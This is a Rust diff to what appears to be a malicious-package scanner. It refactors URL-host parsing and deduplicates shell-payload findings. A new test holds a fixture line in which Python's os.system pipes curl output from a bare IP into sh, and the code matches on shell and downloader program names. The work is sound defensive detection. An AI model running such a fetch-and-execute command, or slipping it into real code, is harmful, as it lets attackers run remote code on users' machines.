@@ -366,16 +366,23 @@ fn names_own_host(path: &str, command: &str) -> bool {
     if project.len() < 4 {
         return false;
     }
-    command
-        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')'))
+    url_hosts(command).any(|host| squash(host).contains(&project))
+}
+
+/// The hosts of the http(s) URLs among the words of a command line (at most 16).
+fn url_hosts(command: &str) -> impl Iterator<Item = &str> {
+    command_head(command)
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ';'))
         .filter_map(|word| {
-            word.strip_prefix("https://")
-                .or_else(|| word.strip_prefix("http://"))
+            word.strip_prefix("http://")
+                .or_else(|| word.strip_prefix("https://"))
         })
-        .take(8)
-        .any(|rest| {
-            let host = rest.split(['/', ':', '?']).next().unwrap_or(rest);
-            squash(host).contains(&project)
+        .take(16)
+        .map(|rest| {
+            let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+            authority
+                .rsplit_once(':')
+                .map_or(authority, |(host, _)| host)
         })
 }
 
@@ -420,6 +427,26 @@ pub fn check_command_literal(checker: &mut Checker, value: &str, range: TextRang
         severity,
         vec!["spawn", "command-literal"],
     );
+}
+
+/// Drops each shell payload literal finding ([`check_command_literal`]) that a process start
+/// on its line already reports at least as strongly: `os.system('curl … | sh')` is one
+/// finding, the call's, not two.
+pub(crate) fn drop_restated_command_literals(findings: &mut Vec<crate::Finding>) {
+    let restated: Vec<bool> = findings
+        .iter()
+        .map(|literal| {
+            literal.has_tag("command-literal")
+                && findings.iter().any(|call| {
+                    call.rule == literal.rule
+                        && call.line == literal.line
+                        && !call.has_tag("command-literal")
+                        && call.severity >= literal.severity
+                })
+        })
+        .collect();
+    let mut restated = restated.into_iter();
+    findings.retain(|_| !restated.next().unwrap_or(false));
 }
 
 /// The credential store a command line ships to another machine: a store's path among the
@@ -639,12 +666,16 @@ pub(crate) fn is_plain_fetch(command: &str) -> bool {
         || DOWNLOADER_COMMAND.is_match(command)
         || fetches_and_marks_executable(command)
         || fetches_from_bare_address(command)
-        || command.contains("$(")
-        || command.contains('`')
     {
         return false;
     }
     handles_files_only(command)
+}
+
+/// The file name of the program a command line starts: `tar` for `/usr/bin/tar xzf -`.
+fn program_name(command: &str) -> &str {
+    let program = command.split_whitespace().next().unwrap_or("");
+    program.rsplit('/').next().unwrap_or(program)
 }
 
 /// True when every step of a command line is a tool that fetches, stores, unpacks or lists
@@ -661,10 +692,8 @@ pub(crate) fn handles_files_only(command: &str) -> bool {
         .filter(|step| !step.is_empty())
         .take(16)
         .all(|step| {
-            let program = step.split_whitespace().next().unwrap_or("");
-            let program = program.rsplit('/').next().unwrap_or(program);
             matches!(
-                program,
+                program_name(step),
                 "curl"
                     | "wget"
                     | "tar"
@@ -690,26 +719,15 @@ pub(crate) fn handles_files_only(command: &str) -> bool {
 /// True when a command line fetches from a URL whose host is a public IP address (not
 /// loopback, private or link-local: a test's own server).
 fn fetches_from_bare_address(command: &str) -> bool {
-    command_head(command)
-        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | ';'))
-        .filter_map(|word| {
-            word.strip_prefix("http://")
-                .or_else(|| word.strip_prefix("https://"))
+    url_hosts(command).any(|host| {
+        host.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| {
+            !(ip.is_loopback()
+                || ip.is_private()
+                || ip.is_link_local()
+                || ip.is_unspecified()
+                || ip.is_broadcast())
         })
-        .take(16)
-        .any(|rest| {
-            let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
-            let host = authority
-                .rsplit_once(':')
-                .map_or(authority, |(host, _)| host);
-            host.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| {
-                !(ip.is_loopback()
-                    || ip.is_private()
-                    || ip.is_link_local()
-                    || ip.is_unspecified()
-                    || ip.is_broadcast())
-            })
-        })
+    })
 }
 
 /// `wget -qO /tmp/x URL && chmod +x /tmp/x`: a binary fetched and made executable in one
@@ -953,10 +971,8 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
             .and_then(|pager| checker.fold(pager))
             .and_then(|pager| pager.as_text())
             .is_some_and(|pager| {
-                let program = pager.split_whitespace().next().unwrap_or("");
-                let program = program.rsplit('/').next().unwrap_or(program);
                 matches!(
-                    program,
+                    program_name(&pager),
                     "sh" | "bash" | "zsh" | "dash" | "ksh" | "python" | "python3"
                 )
             });
@@ -2263,6 +2279,17 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", pager, "WH120") >= 0.7);
         let less = "import pydoc\npydoc.pipepager(open('README').read(), 'less -R')\n";
         assert_eq!(max_severity("p/pkg/__init__.py", less, "WH120"), 0.0);
+    }
+
+    #[test]
+    fn a_literal_run_on_its_line_is_reported_once() {
+        let run = "import os\nos.system('curl -s http://198.51.100.7/c.sh | sh')\n";
+        let found = crate::rules::testing::findings("p/pkg/__init__.py", run);
+        assert!(
+            !found.iter().any(|f| f.has_tag("command-literal")),
+            "{found:?}"
+        );
+        assert!(found.iter().any(|f| f.rule == "WH120"), "{found:?}");
     }
 
     #[test]
